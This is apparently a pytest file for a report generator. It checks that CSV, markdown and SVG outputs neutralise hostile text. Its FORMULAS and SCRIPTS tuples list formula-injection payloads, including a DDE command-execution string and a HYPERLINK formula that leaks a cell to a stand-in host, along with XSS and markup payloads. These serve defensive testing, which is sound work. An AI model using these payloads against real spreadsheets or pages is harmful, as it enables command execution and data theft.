"""What is written from texts of others: nothing in it is computed, run or put elsewhere."""

import csv
import re
from io import StringIO
from xml.etree import ElementTree as ET

import pytest

from spectui.sweep.cells import VisitRecord
from spectui.sweep.summary import summarise
from spectui.sweep.tables import cells_table, markdown, remarks, speedups_svg, summary_csv
from tests.hostile.attempts import obeyed
from tests.support.sweep import cell, failed, record

pytestmark = pytest.mark.ci

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\x1b=1+1"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://h/?"&A1,"x")', '"=1+1', "a,=1+1", 'a"\n=1+1'),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "-2+3+cmd|' /C calc'!A0", "\ufeff=1+1"),
)
SCRIPTS = (
    *("<script>x()</script>", "<img src=x onerror=x()>", "</text><script>x()</script>", "<a>"),
    *("]]><script>", "<!-- x", "&lt;script&gt;", "[x](javascript:x())", "![x](http://h/)", "`x`"),
    *("[x]: http://h/", "<http://h/>", "| x | y |", "# x", "$x^2$", "\x1b]0;t\x07", "\u202ex"),
)
_COMPUTED = re.compile(r"^[\s\ufeff]*[=+@\uff1d\uff0b\uff0d\uff20-](?![0-9.]+$)")
"""With what a spreadsheet begins a formula, once it has left out blanks; not a number."""


def _records(text: str) -> tuple[VisitRecord, ...]:
    broken = failed(cell(8, draft=text))
    return record(cell(4, draft=text), 1.2), broken


def test_no_cell_of_a_table_is_computed() -> None:
    for text in FORMULAS:
        records = _records(text)
        cells = [one.visit.cell for one in records]
        page = summary_csv(summarise(cells, records))
        found = [one for row in csv.reader(StringIO(page)) for one in row]
        assert any("1" in one or "SUM" in one for one in found)
        assert [one for one in found if _COMPUTED.match(one)] == []
        assert not obeyed(page)


def test_no_report_has_a_script_or_a_link_of_others() -> None:
    for text in SCRIPTS:
        records = _records(text)
        summaries = summarise([one.visit.cell for one in records], records)
        notes = [*remarks(summaries), text]
        page = markdown(text, [text], cells_table(summaries), notes, None)
        assert re.search(r"(?<!\\)(?:\\\\)*[<>\[\]`]", page) is None
        assert not obeyed(page)


def test_no_plot_has_a_script_or_a_link() -> None:
    for text in SCRIPTS:
        one = cell(4, draft=text)
        picture = speedups_svg(summarise([one], [record(one)]))
        for element in ET.fromstring(picture or b"").iter():  # noqa: S314 - our own, below 1 MB
            name = element.tag.rpartition("}")[2]
            assert name not in {"script", "foreignObject", "image", "a", "iframe"}
            for key, value in element.attrib.items():
                assert not key.startswith("on")
                assert not key.endswith("href") or value.startswith("#")
